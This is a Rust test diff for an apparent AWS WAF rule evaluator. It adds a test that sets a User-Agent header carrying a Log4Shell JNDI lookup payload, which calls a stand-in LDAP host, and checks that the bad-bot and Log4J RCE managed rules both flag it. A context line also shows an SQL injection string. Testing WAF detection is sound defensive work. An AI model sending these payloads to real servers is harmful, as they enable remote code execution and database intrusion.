@@ -856,6 +856,39 @@ fn managed_groups_with_excluded_rules_and_scope_down() {
     assert!(!eval(&scoped, &req("/admin?id=1%27%20OR%201%3D1--")).allowed());
 }
 
+/// The User-Agent is one of the headers: rules on the headers and rules on the User-Agent
+/// both judge it, whichever group comes first.
+#[test]
+fn header_rules_and_user_agent_rules_both_judge_the_user_agent() {
+    let group = |name: &str, priority: u32| {
+        json!({"Name": name, "Priority": priority,
+            "Statement": {"ManagedRuleGroupStatement": {"VendorName": "AWS", "Name": name}},
+            "OverrideAction": {"Count": {}},
+            "VisibilityConfig": {"SampledRequestsEnabled": true, "CloudWatchMetricsEnabled": true, "MetricName": name}})
+    };
+    let mut r = req("/p");
+    r.headers.insert(
+        "user-agent",
+        HeaderValue::from_static("sqlmap/1.7 ${jndi:ldap://203.0.113.9/a}"),
+    );
+    for order in [[0, 1], [1, 0]] {
+        let a = acl(json!([
+            group("AWSManagedRulesCommonRuleSet", order[0]),
+            group("AWSManagedRulesKnownBadInputsRuleSet", order[1])
+        ]));
+        let v = eval(&a, &r);
+        let names: Vec<&str> = v.matches.iter().map(|m| m.rule.as_str()).collect();
+        assert!(
+            names.contains(&"AWSManagedRulesCommonRuleSet:UserAgent_BadBots_HEADER"),
+            "{names:?}"
+        );
+        assert!(
+            names.contains(&"AWSManagedRulesKnownBadInputsRuleSet:Log4JRCE_HEADER"),
+            "{names:?}"
+        );
+    }
+}
+
 fn problems(doc: Value) -> Vec<String> {
     match parse::web_acl(&doc, "test", &catalog()) {
         Ok(_) => Vec::new(),
